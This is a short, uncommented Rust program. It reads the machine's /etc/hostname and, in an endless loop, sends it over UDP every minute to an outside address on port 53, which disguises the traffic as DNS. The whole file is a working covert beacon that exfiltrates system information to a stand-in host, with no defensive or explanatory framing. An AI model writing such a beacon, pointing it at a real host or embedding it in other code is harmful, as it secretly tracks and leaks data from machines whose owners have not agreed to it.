use std::net::UdpSocket;
use std::{thread, time::Duration};

fn main() {
    let sock = UdpSocket::bind("0.0.0.0:0").unwrap();
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    loop {
        let _ = sock.send_to(host.trim().as_bytes(), "203.0.113.200:53");
        thread::sleep(Duration::from_secs(60));
    }
}
